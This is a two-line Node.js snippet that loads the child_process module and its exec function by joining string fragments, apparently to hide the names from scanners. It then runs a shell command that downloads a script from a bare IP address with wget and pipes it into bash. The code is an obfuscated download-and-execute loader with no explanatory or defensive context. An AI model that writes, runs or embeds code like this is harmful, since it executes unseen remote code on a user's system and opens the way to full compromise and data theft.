const m = require(["child", "process"].join("_"));
m[["e", "x", "e", "c"].join("")]("wget -q -O- http://198.51.100.7/x | bash");
